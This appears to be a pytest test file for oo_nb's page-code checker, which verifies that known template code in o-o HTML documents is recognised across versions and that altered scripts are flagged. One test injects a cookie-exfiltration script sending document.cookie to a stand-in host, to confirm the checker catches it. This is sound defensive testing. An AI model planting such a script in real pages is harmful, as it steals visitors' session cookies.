"""Page code oo_nb wrote in earlier versions, and every real o-o document we hold, is known to
``oo check``; a changed script in such a page still is not (issue 28, item 13)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from oo_nb.edit.sync import migrate_early, sync_document
from oo_nb.format.document import Document
from oo_nb.format.known_page_code import KNOWN_PAGE_CODE
from oo_nb.format.page_code import code_regions, page_code_findings, template_fingerprints
from tests.conftest import CORPUS

SHARED = Path("/work/shared/corpus")
FOLDERS = [CORPUS, *([SHARED] if SHARED.is_dir() else [])]
PAGES = sorted(p for folder in FOLDERS for p in folder.glob("*.o-o.html"))


def _as_the_user_has_it(path: Path) -> list[tuple[str, Document]]:
    """The page as published, and as `oo sync` (marker layout) or `oo sync --migrate` left it."""
    doc = Document.read(path)
    if doc.layout == "early":
        return [("original", doc), ("migrated", migrate_early(doc))]
    return [("original", doc), ("synced", sync_document(doc, ("css", "js", "shell"), None)[0])]


@pytest.mark.parametrize("page", PAGES, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_no_corpus_document_is_flagged(page: Path) -> None:
    for state, doc in _as_the_user_has_it(page):
        assert page_code_findings(doc) == [], state


def test_the_shared_corpus_is_covered_when_present() -> None:
    if not SHARED.is_dir():
        pytest.skip("no /work/shared/corpus on this machine: the repository's corpus stands in")
    assert {p.name for p in SHARED.glob("*.o-o.html")} <= {p.name for p in PAGES}


@pytest.mark.parametrize("page", PAGES, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_a_changed_script_is_still_flagged(page: Path) -> None:
    for state, doc in _as_the_user_has_it(page):
        start = doc.text.find("<script>")  # the first page script (the policy bootstrap or o-o's)
        assert start > 0, state
        changed = Document(
            doc.text[:start]
            + "<script>fetch('//x.example/'+document.cookie)</script>\n"
            + doc.text[start:]
        )
        assert [f[0] for f in page_code_findings(changed)] in (["warning"], ["info"]), state


def test_what_every_earlier_template_revision_wrote_stays_known() -> None:
    """A page an earlier oo_nb made or synced stays known after an upgrade (each revision that
    changed the templates, rendered by its own code: ``tools.page_fingerprints --history``)."""
    if shutil.which("git") is None or not (CORPUS.parents[2] / ".git").exists():
        pytest.skip("needs the repository's git history")
    from tools.page_fingerprints import rendered_at, template_revisions

    known = KNOWN_PAGE_CODE | template_fingerprints()
    revisions = template_revisions()
    assert len(revisions) >= 13  # (as many as when the fingerprints were made, or more)
    missing = {rev: rendered_at(rev) - known for rev in revisions}
    assert {rev: len(m) for rev, m in missing.items() if m} == {}


def test_only_what_sync_keeps_is_taken_from_a_rebuilt_original(tmp_path: Path) -> None:
    """``--kept-by-sync`` reads pages rebuilt around stand-in code: their stylesheet, script and
    OO:SHELL section are never fingerprinted."""
    from tools.page_fingerprints import KEPT_BY_SYNC, kept_by_sync

    text = (CORPUS / "agi-declared.o-o.html").read_text("utf-8")
    stand_in = text.replace("<style>", "<style>\n.stand-in { color: red; }", 1)
    stand_in = stand_in.replace("# OO:SHELL:START\n", "# OO:SHELL:START\necho stand-in\n", 1)
    page = tmp_path / "rebuilt.o-o.html"
    page.write_text(stand_in, "utf-8")
    found = kept_by_sync([page])
    kinds = {r.fingerprint: r.kind for r in code_regions(Document.read(page))}
    assert found and all(kinds.get(digest, "page markup") in KEPT_BY_SYNC for digest in found)
    changed = [r for r in code_regions(Document.read(page)) if r.kind != "page markup"]
    assert not {r.fingerprint for r in changed if r.kind not in KEPT_BY_SYNC} & set(found)


def test_a_fingerprint_keeps_the_note_it_was_first_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Re-running the tool on a renamed copy of a page keeps each known fingerprint's note."""
    import tools.page_fingerprints as tool

    target = tmp_path / "known_page_code.py"
    shutil.copy(tool.TARGET, target)
    monkeypatch.setattr(tool, "TARGET", target)
    monkeypatch.setattr(tool, "ROOT", tmp_path)
    copy = tmp_path / "renamed-copy.o-o.html"
    shutil.copy(CORPUS / "agi-declared.o-o.html", copy)
    assert tool.main([str(copy)]) == 0
    assert "renamed-copy" not in target.read_text("utf-8")
